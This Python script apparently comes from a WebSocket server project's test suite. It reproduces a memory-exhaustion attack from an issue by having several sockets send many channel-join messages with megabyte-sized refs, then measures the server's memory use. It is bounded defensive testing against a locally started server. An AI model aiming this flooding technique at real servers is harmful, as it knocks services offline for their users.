#!/usr/bin/env python3
"""The ref attack of issue 10, measured: SOCKETS sockets each join TOPICS topics with a join_ref
of REF_BYTES bytes, then heartbeat for a while; the server's RSS before, at the peak, and after
the sockets closed. Bounded: a fixed number of sockets and messages, a few seconds in all.

    python3 scripts/attack_refs.py [--bin target/release/corecast] [--sockets 4] [--topics 100]

Prints one JSON line: {"rss_before_mib": .., "rss_peak_mib": .., "rss_after_mib": .., ...}.
"""
import argparse
import json
import os
import struct
import sys
import time

from attacklib import rss_kib, server, upgrade


def rss_mib(pid):
    return rss_kib(pid) / 1024.0


def ws_send_text(s, text):
    data = text.encode()
    n = len(data)
    if n < 126:
        hdr = struct.pack("!BB", 0x81, 0x80 | n)
    elif n < 65536:
        hdr = struct.pack("!BBH", 0x81, 0x80 | 126, n)
    else:
        hdr = struct.pack("!BBQ", 0x81, 0x80 | 127, n)
    # A zero mask: the payload goes out as it is.
    s.sendall(hdr + b"\0\0\0\0" + data)


def drain(s):
    s.setblocking(False)
    try:
        while s.recv(1 << 20):
            pass
    except (BlockingIOError, ConnectionError, OSError):
        pass
    s.setblocking(True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--bin", default="target/release/corecast")
    ap.add_argument("--sockets", type=int, default=4)
    ap.add_argument("--topics", type=int, default=100)
    ap.add_argument("--ref-bytes", type=int, default=1_000_000)
    ap.add_argument("--hold-secs", type=float, default=2.0)
    a = ap.parse_args()

    with server(a.bin, "--cores", "2") as (srv, addr):
        time.sleep(0.3)
        before = rss_mib(srv.pid)
        big = "1" * a.ref_bytes
        socks = []
        closed_by_server = 0
        for _ in range(a.sockets):
            s = upgrade(addr)
            socks.append(s)
            for t in range(a.topics):
                msg = json.dumps([big, "1", f"room:{t}", "phx_join", {}])
                try:
                    ws_send_text(s, msg)
                except OSError:
                    closed_by_server += 1
                    break
                if t % 10 == 9:
                    drain(s)
        peak = rss_mib(srv.pid)
        end = time.time() + a.hold_secs
        while time.time() < end:
            for s in socks:
                try:
                    ws_send_text(s, '[null,"9","phoenix","heartbeat",{}]')
                except OSError:
                    pass
                drain(s)
            peak = max(peak, rss_mib(srv.pid))
            time.sleep(0.2)
        for s in socks:
            s.close()
        time.sleep(2.0)
        after = rss_mib(srv.pid)
        print(json.dumps({
            "bin": a.bin,
            "sockets": a.sockets,
            "joins_per_socket": a.topics,
            "ref_bytes": a.ref_bytes,
            "sockets_cut_off_by_server": closed_by_server,
            "rss_before_mib": round(before, 1),
            "rss_peak_mib": round(peak, 1),
            "rss_after_mib": round(after, 1),
        }))


if __name__ == "__main__":
    sys.exit(main())
